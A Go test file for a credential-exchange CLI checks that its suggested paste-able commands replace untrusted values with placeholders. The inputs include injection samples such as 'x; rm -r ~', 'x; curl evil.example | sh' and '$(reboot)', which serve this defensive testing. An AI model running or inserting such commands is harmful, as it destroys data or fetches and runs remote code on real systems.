package main

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"cambio/audit"
	"cambio/client"
	"cambio/trust"
)

func TestAfterShow(t *testing.T) {
	const explain = "cambio trust explain --provider %s --to %s --claims FILE; the caller gets FILE with: cambio whoami -o json"
	denied := audit.Record{Event: audit.ExchangeDenied, Provider: "github", Target: "orders-api", Reason: string(trust.ReasonConditionFalse)}
	with := func(change func(*audit.Record)) audit.Record {
		r := denied
		change(&r)
		return r
	}
	for name, c := range map[string]struct {
		record audit.Record
		want   string
	}{
		"policy":         {denied, fmt.Sprintf(explain, "github", "orders-api")},
		"dry run":        {with(func(r *audit.Record) { r.Event = audit.ExchangeDryRun }), fmt.Sprintf(explain, "github", "orders-api")},
		"stopped":        {with(func(r *audit.Record) { r.Reason = string(trust.ReasonStopped) }), "cambio stop list"},
		"token":          {with(func(r *audit.Record) { r.Reason = string(trust.ReasonExpired) }), ""},
		"allowed":        {with(func(r *audit.Record) { r.Event, r.Reason = audit.ExchangeAllowed, "" }), ""},
		"a stop's words": {with(func(r *audit.Record) { r.Event, r.Reason = audit.StopAdded, "stopped" }), ""},
		"hostile target": {with(func(r *audit.Record) { r.Target = "x; rm -r ~" }), fmt.Sprintf(explain, "github", "TARGET")},
		"flag as target": {with(func(r *audit.Record) { r.Target = "--config" }), fmt.Sprintf(explain, "github", "TARGET")},
		"no provider":    {with(func(r *audit.Record) { r.Provider = "" }), fmt.Sprintf(explain, "PROVIDER", "orders-api")},
	} {
		if got := afterShow([]audit.Record{c.record}, nil); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// TestShowIsPasteable: whoever answers is not always a gateway, and its decision
// id would be a program of his in the line to paste.
func TestShowIsPasteable(t *testing.T) {
	const line = "quote the decision_id to whoever runs the gateway: cambio audit show "
	for id, want := range map[string]string{
		"0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e": line + "0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e",
		"x; curl evil.example | sh":            line + "ID",
		"$(reboot)":                            line + "ID",
		"--config=x":                           line + "ID",
	} {
		if got := nextStep(&client.Refusal{Status: 400, Code: "invalid_request", Description: "No.", DecisionID: id}); got != want {
			t.Errorf("%q: %q, want %q", id, got, want)
		}
	}
}

func TestRowKeepsItsColumns(t *testing.T) {
	at := time.Date(2027, 3, 31, 12, 0, 0, 0, time.UTC)
	for want, r := range map[string]audit.Record{
		"12:00:00  exchange.denied    0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e  -  orders-api  spiffe://a/b  no-matching-trust": {
			Time: at, Event: audit.ExchangeDenied, Decision: "0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e",
			Target: "orders-api", Workload: "spiffe://a/b", Reason: "no-matching-trust",
		},
		"12:00:00  checkpoint         -                                     -  -  -  -": {Time: at, Event: audit.Checkpoint},
	} {
		if got := row(r); got != want {
			t.Errorf("%q, want %q", got, want)
		}
		for _, column := range []string{"event", "decision", "trust"} {
			if at := strings.Index(rowHead(), column); r.Event == audit.Checkpoint && want[at-1] != ' ' || want[at] == ' ' {
				t.Errorf("%s stands over %q", column, want[at:])
			}
		}
	}
}

func TestOtherAudience(t *testing.T) {
	for description, want := range map[string]string{
		"The token's audience is not ours; ask for https://id.acme.example.": "--audience https://id.acme.example, or --server https://id.acme.example",
		"The token's audience is not ours; ask for cambio.":                  "--audience cambio",
		"The token's audience is not ours; ask for $(reboot).":               "", // whoever answers is not always a gateway
		"The token's audience is not ours; ask for .":                        "",
		"The request was refused.":                                           "",
	} {
		if got := otherAudience(&client.Refusal{Status: 400, Description: description}); got != want {
			t.Errorf("%s %q, want %q", description, got, want)
		}
	}
}

func TestNextStepOfATokenTooOld(t *testing.T) {
	err := &client.Refusal{
		Status: 400, Code: "invalid_request", DecisionID: "0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e",
		Description: "Fetch a fresh token: this one was issued before the replay store restarted.",
	}
	if next := nextStep(err); exitCode(err) != exitDenied || !strings.HasPrefix(next, "fetch a fresh token") || strings.Contains(next, "decision") {
		t.Errorf("exit %d, next: %s", exitCode(err), next)
	}
}

func TestCount(t *testing.T) {
	for n, want := range map[int]string{0: "0 trusts", 1: "1 trust", 2: "2 trusts"} {
		if got := count(n, "trust"); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

func TestShownClaims(t *testing.T) {
	for in, want := range map[string]string{
		`{"source": "GitHub Actions", "claims": {"ref": "x"}, "signature": "not checked"}`: `{"ref": "x"}`,
		`{"claims": {"ref": "x"}}`: `{"claims": {"ref": "x"}}`, // a platform may name a claim so
		`{"source": 1, "claims": {"ref": "x"}, "signature": 2, "sub": "y"}`: `{"source": 1, "claims": {"ref": "x"}, "signature": 2, "sub": "y"}`,
		`nothing`: `nothing`,
	} {
		if got := string(shownClaims([]byte(in))); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}
